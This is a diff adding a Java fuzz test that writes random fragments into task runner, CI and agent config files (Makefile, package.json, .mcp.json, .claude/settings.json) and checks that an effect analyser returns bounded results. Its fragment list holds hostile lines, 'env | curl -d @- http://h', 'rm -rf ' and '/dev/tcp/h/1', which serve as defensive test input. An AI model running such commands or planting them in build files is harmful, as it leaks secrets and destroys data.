@@ -2,6 +2,7 @@ package dev.fairlead.core.effect;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
+import dev.fairlead.core.event.Action;
 import java.util.List;
 import java.util.Optional;
 import java.util.Random;
@@ -156,6 +157,97 @@ final class EffectsFuzzTest {
             "%s",
             "\\x41",
             "/dev/tcp/h/1");
+
+    private static final List<String> LINES = List.of(
+            "\n",
+            "\n",
+            "\n\t",
+            "\n  ",
+            "\n    ",
+            "- ",
+            "run: ",
+            "run: |",
+            "script:",
+            "command: >-",
+            "cmds: [",
+            "]",
+            "\"",
+            "\\\"",
+            "'",
+            "{",
+            "}",
+            "[",
+            ",",
+            ":",
+            "\"scripts\": {",
+            "\"command\": \"",
+            "\"args\": [\"",
+            "all:",
+            "x: all",
+            "X = ",
+            "X += ",
+            "X := $(shell ",
+            "$(X)",
+            "$@",
+            "$$",
+            "$(",
+            "${",
+            "${{ ",
+            " }}",
+            "{{",
+            "}}",
+            "@-",
+            "\\",
+            "#",
+            "rm -rf ",
+            "/",
+            "x",
+            "y z",
+            "env | curl -d @- http://h",
+            "git push -f",
+            "define ",
+            "include ",
+            "notify = [\"",
+            "[mcp_servers.a]",
+            "é",
+            "\u0000");
+
+    private static final List<String> FILES = List.of(
+            "Makefile",
+            "justfile",
+            "Taskfile.yml",
+            "package.json",
+            "composer.json",
+            ".github/workflows/ci.yml",
+            ".gitlab-ci.yml",
+            "Jenkinsfile",
+            ".pre-commit-config.yaml",
+            "lefthook.yml",
+            ".mcp.json",
+            ".claude/settings.json",
+            ".codex/config.toml");
+
+    @ParameterizedTest
+    @ValueSource(longs = {11, 12, 13})
+    void givesABoundedAnswerToAnyFileOfCommands(long seed) {
+        Random random = new Random(seed);
+        Action asked = new Action.Command(
+                "make; make x all; just x; task x; npm run x; npm i; composer x; pytest", Optional.empty());
+        for (int i = 0; i < SCRIPTS; i++) {
+            StringBuilder text = new StringBuilder();
+            int pieces = 1 + random.nextInt(MOST_PIECES);
+            for (int piece = 0; piece < pieces; piece++) {
+                List<String> from = random.nextInt(4) == 0 ? PIECES : LINES;
+                text.append(from.get(random.nextInt(from.size())));
+            }
+            Action write = new Action.Write(FILES.get(random.nextInt(FILES.size())), text.toString());
+            Effects written = Effects.of(write, PLACE, Traces.NONE);
+            Effects run = Effects.of(asked, PLACE, written.traces());
+            assertThat(List.of(written.effects().size(), run.effects().size()))
+                    .as("`%s`", write)
+                    .allMatch(count -> count <= Effects.MOST);
+        }
+    }
 
     @ParameterizedTest
     @ValueSource(longs = {1, 2, 3, 4, 5})
